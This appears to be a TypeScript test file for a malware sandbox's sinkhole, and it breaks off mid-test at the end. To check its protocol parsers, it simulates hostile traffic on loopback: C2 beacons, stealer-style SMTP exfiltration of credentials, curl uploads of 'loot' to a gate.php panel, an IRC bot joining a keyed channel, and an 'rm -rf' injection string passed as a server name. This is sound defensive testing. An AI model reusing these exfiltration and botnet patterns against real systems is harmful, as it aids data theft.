// The sinkhole's caught connections: the parsers on real and hostile first messages, and the catcher
// on loopback sockets of this process (the namespace, nftables and conntrack parts are tested in
// dns.test.ts and end to end in test/analyze.test.ts).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { execFile } from 'node:child_process';
import { mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
import { createConnection, createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect as tlsConnect } from 'node:tls';
import { catchSession, ConntrackTable, DatagramCatcher, fullIpv6, parseClientHello, parseHttpHead, SESSION_MAX, SESSION_READ, SessionLog } from './sessions.js';
import { sandboxCa } from './tls.js';
import type { ServerFirst } from './greetings.js';

/** The first bytes a real client sends to a listener on loopback (which never answers). */
async function firstBytes(send: (port: number) => void, atLeast: number): Promise<Buffer> {
  let server: Server | undefined;
  try {
    return await new Promise<Buffer>((resolve) => {
      let got = Buffer.alloc(0);
      server = createServer((c) => c.on('data', (d: Buffer) => { got = Buffer.concat([got, d]); if (got.length >= atLeast) { resolve(got); c.destroy(); } }));
      server.listen(0, '127.0.0.1', () => send((server?.address() as { port: number }).port));
    });
  } finally {
    server?.close();
  }
}

/** A real ClientHello from Node's TLS (OpenSSL), for `servername`. */
async function clientHello(servername?: string): Promise<Buffer> {
  let client: Socket | undefined;
  const hello = await firstBytes((port) => {
    client = tlsConnect({ host: '127.0.0.1', port, ...(servername ? { servername } : {}), rejectUnauthorized: false });
    client.on('error', () => undefined);
  }, 5);
  // the whole record: its length is in the header
  const whole = hello.length >= 5 + hello.readUInt16BE(3) ? hello : await Promise.reject(new Error('ClientHello in pieces'));
  client?.destroy();
  return whole;
}

test('parseHttpHead: a whole request head gives method, path, Host and User-Agent (any case); a partial one or anything else gives nothing', () => {
  const req = Buffer.from('POST /gate.php?id=7 HTTP/1.1\r\nhost: c2.example.test:8080\r\nUSER-AGENT: Mozilla/4.0 (bot)\r\nContent-Length: 3\r\n\r\nabc');
  assert.deepEqual(parseHttpHead(req), { method: 'POST', path: '/gate.php?id=7', host: 'c2.example.test:8080', userAgent: 'Mozilla/4.0 (bot)' });
  assert.equal(parseHttpHead(req.subarray(0, 40)), undefined, 'not whole yet');
  assert.equal(parseHttpHead(Buffer.from('SSH-2.0-OpenSSH_9.2\r\n\r\n')), undefined);
  assert.deepEqual(parseHttpHead(Buffer.from('GET /\x1b[2J\xff HTTP/1.0\r\n\r\n', 'latin1')), { method: 'GET', path: '/\\x1b[2J\\xff' }, 'control bytes escaped, never printed raw');
});

test('parseClientHello: the server name of a real ClientHello; none when it sends none; truncated or lying lengths never read past the bytes', async () => {
  const hello = await clientHello('update.example.test');
  assert.deepEqual(parseClientHello(hello), { sni: 'update.example.test' });
  assert.equal(parseClientHello(hello.subarray(0, hello.length - 1)), 'incomplete');
  assert.equal(parseClientHello(hello.subarray(0, 3)), 'incomplete');
  assert.deepEqual(parseClientHello(await clientHello()), {}, 'no SNI (an address as the host)');
  assert.equal(parseClientHello(Buffer.from('GET / HTTP/1.1\r\n\r\n')), undefined);
  // lengths that claim more than is there, inside a record that is whole: no name, no throw
  const lying = Buffer.from(hello);
  lying.writeUInt16BE(0xffff, 5 + 4 + 2 + 32 + 1 + (hello[5 + 4 + 2 + 32] as number));
  assert.deepEqual(parseClientHello(lying), {});
  for (let cut = 6; cut < hello.length; cut += 37) {
    const r = Buffer.from(hello.subarray(0, cut));
    r.writeUInt16BE(cut - 5, 3); // a whole record of fewer bytes than the ClientHello says
    assert.doesNotThrow(() => parseClientHello(r));
  }
});

/** A loopback listener that catches sessions into `log`, as the sandbox's does (its original destination made up). */
async function catcher(log: SessionLog): Promise<{ port: number; close(): void }> {
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 8080, domain: 'c2.example.test' })));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as { port: number }).port, close: () => server.close() };
}

/** Connects, sends `data` (in pieces), and returns everything the catcher answered until it closed. */
function exchange(port: number, pieces: Buffer[], closeAfter = false): Promise<string> {
  return new Promise((resolve) => {
    const c = createConnection(port, '127.0.0.1', () => { for (const p of pieces) c.write(p); if (closeAfter) c.end(); });
    let got = '';
    c.on('data', (d: Buffer) => { got += d.toString('latin1'); });
    c.on('error', () => undefined);
    c.on('close', () => resolve(got));
  });
}

test('catchSession: HTTP gets an empty 200 once its head is whole; TLS is closed after its ClientHello when the catcher has no certificate to present; other bytes and silence are logged as they are; at most SESSION_READ bytes are read', async () => {
  const log = new SessionLog();
  const { port, close } = await catcher(log);
  try {
    const head = 'GET /payload.bin HTTP/1.1\r\nHost: c2.example.test\r\nUser-Agent: curl/7.88.1\r\n\r\n';
    const answer = await exchange(port, [Buffer.from(head.slice(0, 20)), Buffer.from(head.slice(20))]);
    assert.match(answer, /^HTTP\/1\.1 200 OK\r\n[\s\S]*Content-Length: 0\r\n/);
    assert.equal(await exchange(port, [await clientHello('update.example.test')]), '', 'TLS: closed, nothing sent');
    await exchange(port, [Buffer.from([1, 2, 0x68, 0x69, 0xff])], true);
    await exchange(port, [], true);
    await exchange(port, [Buffer.alloc(SESSION_READ + 5000, 0x41)], true);
    const s = log.log().sessions;
    assert.deepEqual(s.map((x) => [x.protocol, x.domain, x.port]), [['http', 'c2.example.test', 8080], ['tls', 'c2.example.test', 8080], ['other', 'c2.example.test', 8080], ['none', 'c2.example.test', 8080], ['other', 'c2.example.test', 8080]]);
    assert.deepEqual(s[0]?.http, { method: 'GET', path: '/payload.bin', host: 'c2.example.test', userAgent: 'curl/7.88.1' });
    assert.equal(s[1]?.sni, 'update.example.test');
    assert.equal(s[2]?.preview, '\\x01\\x02hi\\xff');
    assert.equal(s[3]?.bytes, 0);
    assert.ok((s[4]?.bytes ?? 0) >= SESSION_READ && (s[4]?.preview.length ?? 0) === 256, `read stops at the cap: ${s[4]?.bytes}`);
    // a connection still open when the log is taken (its message not whole) is listed, not lost
    const held = createConnection(port, '127.0.0.1');
    held.on('error', () => undefined);
    await new Promise<void>((r) => held.once('connect', () => held.write('GET /half', () => r())));
    for (let i = 0; i < 50 && log.open.size === 0; i++) await new Promise((r) => setTimeout(r, 20));
    await new Promise((r) => setTimeout(r, 100));
    const taken = log.log().sessions;
    assert.deepEqual(taken.slice(5).map((x) => [x.protocol, x.preview]), [['other', 'GET /half']]);
    assert.equal(log.open.size, 0);
    held.destroy();
  } finally {
    close();
  }
});

test('ConntrackTable: the original address and port (IPv4 or IPv6) of the connection whose reply comes from the listener to the sample\'s port; reading is bounded per lookup and per analysis', () => {
  assert.deepEqual(['2001:db8::53', '::1', '2001:DB8:1::', 'fe80::1:2:3:4:5:6'].map(fullIpv6), ['2001:0db8:0000:0000:0000:0000:0000:0053', '0000:0000:0000:0000:0000:0000:0000:0001', '2001:0db8:0001:0000:0000:0000:0000:0000', 'fe80:0000:0001:0002:0003:0004:0005:0006']);
  const dir = mkdtempSync(join(tmpdir(), 'sandtrace-ct-'));
  try {
    const file = join(dir, 'nf_conntrack');
    writeFileSync(file, [
      'ipv4     2 udp      17 25 src=10.0.0.2 dst=192.0.2.53 sport=40001 dport=53 src=192.0.2.53 dst=10.0.0.2 sport=53 dport=40001 mark=0 zone=0 use=2',
      'ipv4     2 tcp      6 431999 ESTABLISHED src=198.18.0.5 dst=198.18.0.5 sport=56370 dport=443 src=192.0.2.53 dst=198.18.0.5 sport=1 dport=56370 [ASSURED] mark=0 zone=0 use=2',
      'ipv4     2 tcp      6 431999 ESTABLISHED src=198.18.0.6 dst=198.18.0.6 sport=56371 dport=8080 src=192.0.2.53 dst=198.18.0.6 sport=1 dport=56371 [ASSURED] mark=0 zone=0 use=2',
      'ipv4     2 udp      17 29 src=203.0.113.7 dst=203.0.113.7 sport=56371 dport=5000 [UNREPLIED] src=192.0.2.53 dst=203.0.113.7 sport=1 dport=56371 mark=0 zone=0 use=2',
      // IPv6, as the table writes it (every group whole), and an IPv4 line with the same ports
      'ipv6     10 tcp      6 432000 ESTABLISHED src=2001:0db8:0000:0000:0000:0000:0000:0053 dst=2001:4860:4860:0000:0000:0000:0000:8888 sport=34880 dport=443 src=2001:0db8:0000:0000:0000:0000:0000:0053 dst=2001:0db8:0000:0000:0000:0000:0000:0053 sport=1 dport=34880 [ASSURED] mark=0 zone=0 use=2',
      'ipv6     10 udp      17 29 src=2001:0db8:0000:0000:0000:0000:0000:0053 dst=2001:0db8:0001:0000:0000:0000:0000:0007 sport=50000 dport=7000 [UNREPLIED] src=2001:0db8:0000:0000:0000:0000:0000:0053 dst=2001:0db8:0000:0000:0000:0000:0000:0053 sport=1 dport=50000 mark=0 zone=0 use=2',
      '',
    ].join('\n'));
    const table = new ConntrackTable(openSync(file, 'r'));
    try {
      assert.deepEqual(table.lookup('192.0.2.53', '198.18.0.6', 56371), { address: '198.18.0.6', port: 8080 });
      assert.deepEqual(table.lookup('192.0.2.53', '198.18.0.5', 56370), { address: '198.18.0.5', port: 443 }, 'the table is read again from its start');
      assert.equal(table.lookup('192.0.2.53', '198.18.0.5', 5637), undefined, 'a port is matched whole');
      assert.deepEqual(table.lookup('192.0.2.53', '203.0.113.7', 56371, 'udp'), { address: '203.0.113.7', port: 5000 }, 'a datagram flow, by its protocol');
      assert.equal(table.lookup('192.0.2.53', '203.0.113.7', 56371), undefined, 'TCP does not take the UDP entry');
      // IPv6: the listener and the sample's end given short, the original destination given back short
      assert.deepEqual(table.lookup('2001:db8::53', '2001:db8::53', 34880), { address: '2001:4860:4860::8888', port: 443 });
      assert.deepEqual(table.lookup('2001:db8::53', '2001:db8::53', 50000, 'udp'), { address: '2001:db8:1::7', port: 7000 });
      assert.equal(table.lookup('2001:db8::53', '2001:db8::53', 56371), undefined, 'an IPv4 entry is no IPv6 one');
    } finally {
      table.close();
    }
    assert.equal(new ConntrackTable(undefined).lookup('192.0.2.53', '198.18.0.5', 56370), undefined, 'no table (not root)');
    // a table the sample flooded: the entry past the per-lookup budget is not found; once the
    // analysis budget is spent, nothing is read at all
    const line = (i: number) => `ipv4     2 tcp      6 9 CLOSE src=127.0.0.1 dst=127.0.0.1 sport=${30000 + i} dport=20000 src=127.0.0.1 dst=127.0.0.1 sport=20000 dport=${30000 + i} mark=0 zone=0 use=2\n`;
    const early = 'ipv4     2 tcp      6 431999 ESTABLISHED src=198.18.0.6 dst=198.18.0.6 sport=56371 dport=8080 src=192.0.2.53 dst=198.18.0.6 sport=1 dport=56371 [ASSURED] mark=0 zone=0 use=2\n';
    writeFileSync(file, early + Array.from({ length: 200 }, (_, i) => line(i)).join('') + 'ipv4     2 tcp      6 431999 ESTABLISHED src=203.0.113.7 dst=203.0.113.7 sport=40000 dport=4444 src=192.0.2.53 dst=203.0.113.7 sport=1 dport=40000 [ASSURED] mark=0 zone=0 use=2\n');
    const bounded = new ConntrackTable(openSync(file, 'r'), { lookup: 8 * 1024, analysis: 20 * 1024 });
    try {
      assert.equal(bounded.lookup('192.0.2.53', '203.0.113.7', 40000), undefined, 'past the per-lookup budget');
      const big = new ConntrackTable(openSync(file, 'r'), { lookup: 1 << 20, analysis: 1 << 20 });
      assert.deepEqual(big.lookup('192.0.2.53', '203.0.113.7', 40000), { address: '203.0.113.7', port: 4444 }, 'within the budgets it is found');
      assert.deepEqual(big.lookup('192.0.2.53', '198.18.0.6', 56371), { address: '198.18.0.6', port: 8080 });
      big.close();
      bounded.lookup('192.0.2.53', '203.0.113.7', 40000);
      bounded.lookup('192.0.2.53', '203.0.113.7', 40000);
      assert.equal(bounded.lookup('192.0.2.53', '198.18.0.6', 56371), undefined, 'the analysis budget is spent: not even the first line is read');
    } finally {
      bounded.close();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

/** A TLS client of the catcher: sends `data` once the handshake is done, then returns what came back (or the error). */
function tlsExchange(port: number, servername: string, data: string, verify: boolean, ca?: string): Promise<string> {
  return new Promise((resolve) => {
    let got = '';
    const c = tlsConnect({ host: '127.0.0.1', port, servername, rejectUnauthorized: verify, ...(ca ? { ca } : {}) }, () => c.write(data));
    c.on('data', (d: Buffer) => { got += d.toString('latin1'); });
    c.on('error', (e: NodeJS.ErrnoException) => resolve(`error ${e.code ?? e.message}`));
    c.on('close', () => resolve(got));
  });
}

test('catchSession with TLS: a sample that trusts the sandbox\'s authority (and checks the name), or checks nothing, completes the handshake and its HTTPS request is read in the clear and answered 200; one that trusts other CAs only refuses ours and is logged with its server name only; a hello followed by garbage, or one past the read cap, is logged and never decrypted', async () => {
  const log = new SessionLog();
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 443, domain: 'secure.example.test' }), { tls: sandboxCa }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  try {
    const request = 'POST /api/v2/beacon?id=devbox HTTP/1.1\r\nHost: secure.example.test\r\nUser-Agent: implant/2.1\r\nContent-Length: 4\r\n\r\nloot';
    // a client that trusts the sandbox's authority (as the container does) and checks the name
    assert.match(await tlsExchange(port, 'secure.example.test', request, true, sandboxCa().certPem), /^HTTP\/1\.1 200 OK\r\n/);
    // one that trusts only its own CAs (this host's, which never hold the sandbox's authority)
    assert.match(await tlsExchange(port, 'checked.example.test', 'GET / HTTP/1.1\r\n\r\n', true), /^error UNABLE_TO_VERIFY_LEAF_SIGNATURE/);
    const stratum = '{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\n';
    const c = tlsConnect({ host: '127.0.0.1', port, servername: 'pool.example.test', rejectUnauthorized: false }, () => c.end(stratum));
    c.on('error', () => undefined);
    await new Promise((r) => c.on('close', r));
    // hostile: a real ClientHello followed at once by bytes that are no TLS record is refused by the
    // TLS server and logged with its server name; a ClientHello larger than the read cap is not answered
    const hello = await clientHello('garbage.example.test');
    assert.equal(await exchange(port, [Buffer.concat([hello, Buffer.from('\x17\x03\x03\xff\xffnot a record')])]).then((r) => r.startsWith('\x16\x03')), true, 'the server answered the hello before it read the garbage');
    const huge = Buffer.concat([hello.subarray(0, 3), Buffer.from([0x50, 0x00]), Buffer.alloc(0x5000, 1)]);
    assert.equal(await exchange(port, [huge], true), '', 'a record past the read cap: closed unanswered');
    const s = log.log().sessions;
    assert.deepEqual(s.slice(3).map((x) => [x.protocol, x.sni, x.decrypted !== undefined]), [['tls', 'garbage.example.test', false], ['tls', undefined, false]]);
    assert.deepEqual(s.map((x) => [x.protocol, x.sni, x.decrypted !== undefined]).slice(0, 3), [['tls', 'secure.example.test', true], ['tls', 'checked.example.test', false], ['tls', 'pool.example.test', true]]);
    assert.deepEqual(s[0]?.http, {
      method: 'POST', path: '/api/v2/beacon?id=devbox', host: 'secure.example.test', userAgent: 'implant/2.1', body: { bytes: 4, sha256: createHash('sha256').update('loot').digest('hex'), preview: 'loot' },
    });
    assert.equal(s[0]?.decrypted?.bytes, Buffer.byteLength(request));
    assert.match(s[0]?.preview ?? '', /^\\x16\\x03/, 'the preview is still the bytes on the wire (the ClientHello)');
    assert.equal(s[1]?.http, undefined);
    assert.deepEqual(s[2]?.decrypted, { bytes: stratum.length, preview: '{"id":1,"method":"login","params":{"login":"4AbC","pass":"x"}}\\n' });
  } finally {
    server.close();
  }
});

/** The subject alternative names of the certificate the catcher shows a client that sends `servername` as SNI (none: no SNI). */
function presented(port: number, servername?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const c = tlsConnect({ host: '127.0.0.1', port, rejectUnauthorized: false, ...(servername === undefined ? {} : { servername }) }, () => {
      resolve(c.getPeerCertificate().subjectaltname ?? '');
      c.destroy();
    });
    c.on('error', reject);
  });
}

test('catchSession with TLS: the certificate names what the client asked for, its SNI, else the name the sinkhole gave the address, and the address it connected to; an SNI that is no host name gets the address only', async () => {
  const log = new SessionLog();
  let domain: string | undefined = 'panel.example.test';
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 443, ...(domain ? { domain } : {}) }), { tls: sandboxCa }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  try {
    assert.equal(await presented(port, 'CDN.Example.test'), 'DNS:cdn.example.test, IP Address:198.18.0.9');
    assert.equal(await presented(port), 'DNS:panel.example.test, IP Address:198.18.0.9', 'no SNI: the name the address was given');
    domain = undefined;
    assert.equal(await presented(port), 'IP Address:198.18.0.9', 'a hard-coded address: the address alone');
    assert.equal(await presented(port, 'bad name;rm -rf'), 'IP Address:198.18.0.9');
  } finally {
    server.close();
  }
});

test('DatagramCatcher: one session per flow (source address and port), its first datagram kept and every datagram counted; flows past SESSION_MAX are counted, not listed', () => {
  const log = new SessionLog();
  const asked: string[] = [];
  const udp = new DatagramCatcher(log, (address, port) => {
    asked.push(`${address}:${port}`);
    return { address, port: 5000 };
  });
  udp.onDatagram(Buffer.from('BEACON\x00\xff', 'latin1'), { address: '203.0.113.7', port: 40000 });
  udp.onDatagram(Buffer.from('PING'), { address: '203.0.113.7', port: 40000 });
  udp.onDatagram(Buffer.alloc(0), { address: '203.0.113.7', port: 40001 });
  assert.deepEqual(asked, ['203.0.113.7:40000', '203.0.113.7:40001'], 'the destination is asked once per flow');
  assert.deepEqual(log.log().sessions, [
    { address: '203.0.113.7', port: 5000, transport: 'udp', protocol: 'other', bytes: 12, preview: 'BEACON\\x00\\xff' },
    { address: '203.0.113.7', port: 5000, transport: 'udp', protocol: 'none', bytes: 0, preview: '' },
  ]);
  for (let p = 0; p < SESSION_MAX; p++) udp.onDatagram(Buffer.from('x'), { address: '198.51.100.1', port: 1024 + p });
  const { sessions, sessionsOmitted } = log.log();
  assert.equal(sessions.length, SESSION_MAX);
  assert.equal(sessionsOmitted, 2);
});

test('catchSession greets the server-first protocol its listener names: SMTP is led through one message (envelope and subject kept), FTP is answered line by line; the catch-all listener says nothing first', async () => {
  const log = new SessionLog();
  let greet: ServerFirst | undefined = 'smtp';
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: null, domain: 'mx.example.test' }), greet ? { greet } : {}));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const listening = (server.address() as { port: number }).port;
  /** Waits for the greeting (if any comes within `wait` ms), sends `lines`, returns all that was said back. */
  const talk = (lines: string, wait = 2000) => new Promise<string>((resolve) => {
    let got = '';
    let sent = false;
    const c = createConnection(listening, '127.0.0.1');
    const send = () => { if (!sent) { sent = true; c.write(lines); } };
    const timer = setTimeout(() => { send(); setTimeout(() => c.end(), 200); }, wait);
    c.on('data', (d: Buffer) => { got += d.toString('latin1'); send(); });
    c.on('error', () => undefined);
    c.on('close', () => { clearTimeout(timer); resolve(got); });
  });
  try {
    const smtp = await talk('EHLO bot\r\nMAIL FROM:<promo@shop.example.test>\r\nRCPT TO:<victim@example.test>\r\nDATA\r\nSubject: You won\r\n\r\nclick\r\n.\r\n');
    assert.match(smtp, /^220 mail\.example\.test ESMTP ready\r\n250-[\s\S]*354 [\s\S]*250 2\.0\.0 OK: queued\r\n$/);
    greet = 'ftp';
    assert.match(await talk('USER anonymous\r\n'), /^220 FTP server ready\r\n331 Password required\r\n$/);
    greet = undefined;
    assert.equal(await talk('EHLO quiet\r\n', 200), '', 'the catch-all: no greeting');
    const s = log.log().sessions;
    assert.deepEqual(s.map((x) => x.protocol), ['smtp', 'ftp', 'other']);
    assert.deepEqual(s[0]?.smtp, { helo: 'bot', from: 'promo@shop.example.test', to: ['victim@example.test'], recipients: 1, subject: 'You won' });
    assert.equal(s[1]?.preview, 'USER anonymous\\r\\n');
    assert.deepEqual(s[1]?.ftp, { user: 'anonymous', files: [], uploads: 0, downloads: 0 });
  } finally {
    server.close();
  }
});

/**
 * A real mail client from Python's library, as stealers written in Python use them: `script` run
 * with `s` the client `connect` makes (by default smtplib's, saying EHLO devbox, to `port`);
 * resolves to its exit code and last line on stderr.
 */
function mailClient(port: number, script: string, connect = `smtplib.SMTP('127.0.0.1', ${port}, local_hostname='devbox', timeout=10)`): Promise<{ code: number | null; said: string }> {
  const program = `import imaplib, poplib, smtplib, ssl, sys\ns = ${connect}\n${script}\n`;
  return new Promise((resolve) => {
    execFile('python3', ['-I', '-c', program], { timeout: 20_000 }, (e, _out, err) => {
      resolve({ code: e ? (typeof e.code === 'number' ? e.code : 1) : 0, said: err.trim().split('\n').pop() ?? '' });
    });
  });
}

test('catchSession on the SMTP listener with a certificate: Python smtplib upgrades with STARTTLS when it does not check certificates, or trusts the sandbox\'s authority, logs in and sends, all read inside the TLS; one that trusts other CAs only is refused and logged with what it said in the clear; AUTH PLAIN in the clear is kept too', async () => {
  const log = new SessionLog();
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: 587, domain: 'smtp.example.test' }), { greet: 'smtp', tls: sandboxCa }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  const send = "s.sendmail('pc@example.test', ['ops@example.test'], 'Subject: PW_devbox\\r\\n\\r\\nchrome logins attached\\r\\n')\ns.quit()";
  try {
    const unverified = await mailClient(port, `s.ehlo('devbox')\ns.starttls(context=ssl._create_unverified_context())\ns.login('logs@mail.example.test', 'Hunter2!')\n${send}`);
    assert.deepEqual(unverified, { code: 0, said: '' });
    const verified = await mailClient(port, 's.ehlo(\'devbox\')\ns.starttls(context=ssl.create_default_context())');
    assert.notEqual(verified.code, 0);
    assert.match(verified.said, /CERTIFICATE_VERIFY_FAILED/);
    const clear = await mailClient(port, `s.login('bot', 'pw')\n${send}`);
    assert.deepEqual(clear, { code: 0, said: '' });
    // a client that checks certificates against CAs holding the sandbox's authority (as in the container) and checks the host name
    const trusting = await mailClient(port, `s.starttls(context=ssl.create_default_context(cadata=${JSON.stringify(sandboxCa().certPem)}))\ns.login('u', 'p')\ns.quit()`,
      `smtplib.SMTP('localhost', ${port}, local_hostname='devbox', timeout=10)`);
    assert.deepEqual(trusting, { code: 0, said: '' });
    const [tls, refused, plain, trusted] = log.log().sessions;
    assert.equal(tls?.protocol, 'smtp');
    assert.deepEqual(tls?.smtp, {
      helo: 'devbox', from: 'pc@example.test', to: ['ops@example.test'], recipients: 1, subject: 'PW_devbox',
      auth: { mechanism: 'PLAIN', user: 'logs@mail.example.test', password: 'Hunter2!' }, starttls: true,
    });
    assert.match(tls?.preview ?? '', /^ehlo devbox\\r\\nSTARTTLS\\r\\n$/, 'the bytes on the wire in the clear end at STARTTLS');
    assert.ok((tls?.decrypted?.bytes ?? 0) > 100, 'what followed was read inside the TLS');
    assert.match(tls?.decrypted?.preview ?? '', /^ehlo devbox\\r\\nAUTH PLAIN /);
    assert.deepEqual(refused?.smtp, { helo: 'devbox', to: [], recipients: 0 });
    assert.equal(refused?.decrypted, undefined);
    assert.deepEqual(plain?.smtp?.auth, { mechanism: 'PLAIN', user: 'bot', password: 'pw' });
    assert.equal(plain?.smtp?.starttls, undefined);
    assert.deepEqual(trusted?.smtp && [trusted.smtp.starttls, trusted.smtp.auth?.user], [true, 'u']);
  } finally {
    server.close();
  }
});

test('catchSession on an implicit-TLS port (SMTPS, POP3S): the ClientHello is answered first and the greeting comes inside the TLS; smtplib.SMTP_SSL logs in and sends, poplib.POP3_SSL logs in (the account kept), a client that checks certificates is refused and logged with its server name (smtplib sends the host it was given as SNI)', async () => {
  const log = new SessionLog();
  let greet: ServerFirst = 'smtp';
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: null, domain: 'mail.example.test' }), { greet, tls: sandboxCa, implicitTls: true }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  const unverified = 'context=ssl._create_unverified_context()';
  try {
    const sent = await mailClient(port, "s.login('logs@mail.example.test', 'pw465')\ns.sendmail('pc@example.test', ['ops@example.test'], 'Subject: cookies\\r\\n\\r\\nx\\r\\n')\ns.quit()",
      `smtplib.SMTP_SSL('localhost', ${port}, local_hostname='devbox', timeout=10, ${unverified})`);
    assert.deepEqual(sent, { code: 0, said: '' });
    const checked = await mailClient(port, '', `smtplib.SMTP_SSL('localhost', ${port}, timeout=10, context=ssl.create_default_context())`);
    assert.match(checked.said, /CERTIFICATE_VERIFY_FAILED/);
    greet = 'pop3';
    const pop = await mailClient(port, "s.user('victim@example.test')\ns.pass_('pop-pw')\nassert s.stat() == (0, 0)\ns.quit()", `poplib.POP3_SSL('127.0.0.1', ${port}, timeout=10, ${unverified})`);
    assert.deepEqual(pop, { code: 0, said: '' });
    const [smtps, refused, pop3s] = log.log().sessions;
    assert.deepEqual(smtps && [smtps.protocol, smtps.sni, smtps.smtp], ['smtp', 'localhost', {
      helo: 'devbox', from: 'pc@example.test', to: ['ops@example.test'], recipients: 1, subject: 'cookies', auth: { mechanism: 'PLAIN', user: 'logs@mail.example.test', password: 'pw465' },
    }]);
    assert.match(smtps?.preview ?? '', /^\\x16\\x03/, 'on the wire: the ClientHello');
    assert.match(smtps?.decrypted?.preview ?? '', /^ehlo devbox\\r\\nAUTH PLAIN /, 'inside: the dialogue, with no STARTTLS offered');
    assert.deepEqual(refused && [refused.protocol, refused.sni, refused.decrypted, refused.smtp], ['smtp', 'localhost', undefined, { to: [], recipients: 0 }]);
    assert.deepEqual(pop3s && [pop3s.protocol, pop3s.login], ['pop3', { mechanism: 'USER', user: 'victim@example.test', password: 'pop-pw' }]);
    assert.match(pop3s?.decrypted?.preview ?? '', /^USER victim@example\.test\\r\\nPASS pop-pw\\r\\nSTAT/);
  } finally {
    server.close();
  }
});

test('catchSession on the IMAP listener: Python imaplib logs in, selects the empty INBOX and logs out; the account is kept', async () => {
  const log = new SessionLog();
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.8', port: 143, domain: 'imap.example.test' }), { greet: 'imap' }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  try {
    const run = await mailClient(port, "s.login('orders@example.test', 'pw 1')\nassert s.select('INBOX') == ('OK', [b'0'])\ns.logout()", `imaplib.IMAP4('127.0.0.1', ${port}, timeout=10)`);
    assert.deepEqual(run, { code: 0, said: '' });
    assert.deepEqual(log.log().sessions.map((x) => [x.protocol, x.login]), [['imap', { mechanism: 'LOGIN', user: 'orders@example.test', password: 'pw 1' }]]);
  } finally {
    server.close();
  }
});

test('catchSession reads an HTTP upload\'s body before it answers: curl\'s POST of a file (with Expect: 100-continue, and chunked) gets its 200 and the body\'s size, SHA-256 and first bytes are kept; over TLS too', async () => {
  const log = new SessionLog();
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.9', port: 80, domain: 'panel.example.test' }), { tls: sandboxCa }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  const dir = mkdtempSync(join(tmpdir(), 'sandtrace-upload-'));
  try {
    const loot = Buffer.concat([Buffer.from('\x1f\x8b\x08\x00', 'latin1'), Buffer.alloc(300_000, 0x5a)]);
    const file = join(dir, 'loot.tgz');
    writeFileSync(file, loot);
    const curl = (args: string[]) => new Promise<{ code: number; out: string }>((resolve) => {
      execFile('curl', ['-s', '-m', '20', '-o', '/dev/null', '-w', '%{http_code}', ...args], (e, out) => resolve({ code: e ? Number(e.code ?? 1) : 0, out }));
    });
    assert.deepEqual(await curl(['--data-binary', `@${file}`, `http://127.0.0.1:${port}/gate.php`]), { code: 0, out: '200' });
    assert.deepEqual(await curl(['-H', 'Expect: 100-continue', '--data-binary', `@${file}`, `http://127.0.0.1:${port}/gate.php`]), { code: 0, out: '200' });
    assert.deepEqual(await curl(['-H', 'Transfer-Encoding: chunked', '--data-binary', `@${file}`, `http://127.0.0.1:${port}/gate.php`]), { code: 0, out: '200' });
    assert.deepEqual(await curl(['-k', '--data-binary', `@${file}`, `https://localhost:${port}/gate.php`]), { code: 0, out: '200' });
    const want = { bytes: loot.length, sha256: createHash('sha256').update(loot).digest('hex'), preview: `\\x1f\\x8b\\x08\\x00${'Z'.repeat(252)}` };
    const s = log.log().sessions;
    assert.deepEqual(s.map((x) => [x.protocol, x.http?.method, x.http?.body]), [['http', 'POST', want], ['http', 'POST', want], ['http', 'POST', want], ['tls', 'POST', want]]);
    assert.ok((s[0]?.bytes ?? 0) > loot.length, 'every byte was read');
  } finally {
    server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('catchSession answers IRC on the catch-all, in the clear and inside TLS: a Python bot registers, waits for the end of the MOTD, joins its channel with a key, says it is ready and quits; what it said is kept and the session is irc (tls inside TLS)', async () => {
  const log = new SessionLog();
  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.12', port: 6667, domain: 'irc.botnet.example.test' }), { tls: sandboxCa }));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as { port: number };
  const dir = mkdtempSync(join(tmpdir(), 'sandtrace-irc-'));
  try {
    const ca = join(dir, 'ca.pem');
    writeFileSync(ca, sandboxCa().certPem);
    const bot = `
import socket, ssl, sys
s = socket.create_connection(('127.0.0.1', ${port}), timeout=10)
if sys.argv[1] == 'tls':
    s = ssl.create_default_context(cafile=${JSON.stringify(ca)}).wrap_socket(s, server_hostname='irc.botnet.example.test')
f = s.makefile('rb')
def until(code):
    for line in f:
        if line.split(b' ')[1:2] == [code] or line.startswith(code): return
    sys.exit('no ' + code.decode())
s.sendall(b'NICK [x86|US]a1b2\\r\\nUSER a1b2 0 * :Linux x86_64\\r\\n')
until(b'376')
s.sendall(b'JOIN #cmd k3y\\r\\n')
until(b'366')
s.sendall(b'PRIVMSG #cmd :ready\\r\\nQUIT\\r\\n')
until(b'ERROR')
print('ok')
`;
    for (const mode of ['plain', 'tls']) {
